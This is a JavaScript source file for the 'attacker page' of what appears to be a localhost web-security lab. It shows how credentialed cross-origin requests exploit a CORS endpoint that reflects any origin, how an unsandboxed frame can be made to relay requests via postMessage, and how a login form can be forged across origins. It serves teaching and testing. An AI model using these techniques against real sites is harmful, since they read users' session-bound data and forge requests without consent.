// The attacker page: reads who you are from the API, with your cookies, from an
// origin of its own. It also tries to borrow the lab's sandboxed frame, and to log
// you in with a form. Plain JavaScript, loaded from this origin only (see the
// Content-Security-Policy the lab server sends with the page).
"use strict";

/** Where the API and the lab are when /config.json cannot be read. */
const DEFAULT_API = "http://localhost:8000";
const DEFAULT_LAB = "http://localhost:5173";

/** What this page asks the lab's frame to fetch, with the frame's credentials. */
const FRAME_PATHS = ["/api/whoami", "/api/items"];
/**
 * How long to wait for the frame to load, then for each answer. A frame that
 * fetches for this page answers within milliseconds. A frame the browser refused
 * may never report that it loaded, and one that ignores this page never answers.
 */
const FRAME_WAIT_MS = 5000;

/** Each attack: the path it reads, and the element its result goes to. */
const ATTACKS = {
  exhibit: { path: "/exhibits/reflect-any-origin", testid: "attack-exhibit" },
  api: { path: "/api/whoami", testid: "attack-api" },
};

/** The API's and the lab's origins, from /config.json. */
async function origins() {
  try {
    const response = await fetch("/config.json", { cache: "no-store" });
    const config = await response.json();
    return {
      api: config.api_base_url.replace(/\/+$/, ""),
      lab: (config.lab_url || DEFAULT_LAB).replace(/\/+$/, ""),
    };
  } catch (error) {
    return { api: DEFAULT_API, lab: DEFAULT_LAB };
  }
}

/** What the page got from one credentialed fetch: an outcome and the text to show. */
async function attack(url) {
  let response;
  try {
    response = await fetch(url, { credentials: "include", cache: "no-store" });
  } catch (error) {
    return {
      outcome: "refused",
      text:
        `${error.name}: ${error.message}. The browser refused to hand this page the ` +
        "answer (DevTools' console says why). Nothing was stolen.",
    };
  }
  const body = await response.text();
  let user = null;
  try {
    user = JSON.parse(body).user || null;
  } catch (error) {
    // not JSON: no user in it
  }
  if (response.ok && user) {
    return {
      outcome: "stolen",
      user,
      text:
        `Read ${response.status}: ${body}. This page now knows you are "${user}": your ` +
        "cookie went along, and the answer allowed this origin to read it.",
    };
  }
  if (response.status === 401) {
    return {
      outcome: "not-logged-in",
      text:
        `Read 401: ${body}. The answer was readable, but no cookie came with the ` +
        "request: you are not logged in, or SameSite kept the cookie home.",
    };
  }
  return {
    outcome: "unexpected",
    text: `Read ${response.status}: ${body}. Is the backend running under ENV=development?`,
  };
}

async function run(name, base) {
  const { path, testid } = ATTACKS[name];
  const output = document.querySelector(`[data-testid="${testid}"]`);
  delete output.dataset.outcome;
  delete output.dataset.user;
  output.textContent = `GET ${base}${path} …`;
  const result = await attack(base + path);
  if (result.user) output.dataset.user = result.user;
  output.textContent = result.text;
  output.dataset.outcome = result.outcome;
}

/** Frames the lab's null-origin.html without `sandbox`; the frame once it loaded, or could not. */
function frameTheLab(lab) {
  return new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.hidden = true;
    frame.title = "The lab's sandboxed frame, framed without sandbox";
    frame.addEventListener("load", () => resolve(frame), { once: true });
    setTimeout(() => resolve(frame), FRAME_WAIT_MS);
    frame.src = `${lab}/null-origin.html`;
    document.body.append(frame);
  });
}

/** Asks the frame to fetch `url` as the lab does; its answer's text, or null when none came. */
function askFrame(frame, url) {
  return new Promise((resolve) => {
    const channel = new MessageChannel();
    const finish = (answer) => {
      clearTimeout(timer);
      channel.port1.close();
      resolve(answer);
    };
    const timer = setTimeout(() => finish(null), FRAME_WAIT_MS);
    channel.port1.onmessage = (event) => finish(String(event.data));
    const request = { url, method: "GET", headers: [], body: null, credentials: "include" };
    try {
      frame.contentWindow.postMessage(JSON.stringify(request), "*", [channel.port2]);
    } catch (error) {
      finish(null);
    }
  });
}

/** The frame attack: `relayed` when the frame fetched anything for this page, else `ignored`. */
async function runFrame(base, lab) {
  const output = document.querySelector('[data-testid="attack-frame"]');
  delete output.dataset.outcome;
  delete output.dataset.user;
  output.textContent = `Framing ${lab}/null-origin.html without sandbox …`;
  const frame = await frameTheLab(lab);
  const answers = await Promise.all(FRAME_PATHS.map((path) => askFrame(frame, base + path)));
  frame.remove();
  const relayed = FRAME_PATHS.map((path, i) => [path, answers[i]]).filter(([, a]) => a !== null);
  if (relayed.length === 0) {
    output.textContent =
      `The frame answered neither ${FRAME_PATHS.join(" nor ")}. The browser refused to ` +
      "show the lab's page inside this one (frame-ancestors), or its script ignored this " +
      "page. Nothing was sent for this page.";
    output.dataset.outcome = "ignored";
    return;
  }
  for (const [, answer] of relayed) {
    try {
      const reply = JSON.parse(answer);
      const user = JSON.parse(reply.body).user;
      if (user) output.dataset.user = user;
    } catch (error) {
      // not a readable answer with a user in it
    }
  }
  output.textContent =
    "The lab's frame fetched for this page, with the lab's origin and cookies: " +
    relayed.map(([path, answer]) => `${path}: ${answer}`).join("; ");
  output.dataset.outcome = "relayed";
}

/** Points the login form at the API, then lets it be submitted. */
function armLoginForm(base) {
  const form = document.querySelector('[data-testid="attack-login-form"]');
  form.action = `${base}/api/login`;
  document.querySelector("[data-login]").textContent = `POST ${base}/api/login`;
  form.querySelector("button").disabled = false;
  form.dataset.ready = "true";
}

/** This page under another name of this machine: `localhost` or `127.0.0.1`. */
function sameSpotOn(host) {
  return `${location.protocol}//${host}${location.port ? ":" + location.port : ""}`;
}

async function main() {
  document.querySelector('[data-testid="attack-origin"]').textContent = location.origin;
  for (const link of document.querySelectorAll("[data-host]")) {
    link.href = sameSpotOn(link.dataset.host) + "/";
    link.textContent = sameSpotOn(link.dataset.host);
  }
  const { api: base, lab } = await origins();
  document.querySelector("[data-api]").textContent = base;
  document.querySelector("[data-lab]").textContent = `${lab}/null-origin.html`;
  armLoginForm(base);
  for (const button of document.querySelectorAll("[data-run]")) {
    const name = button.dataset.run;
    button.addEventListener("click", () =>
      name === "frame" ? runFrame(base, lab) : run(name, base),
    );
  }
  await Promise.all([...Object.keys(ATTACKS).map((name) => run(name, base)), runFrame(base, lab)]);
}

main();
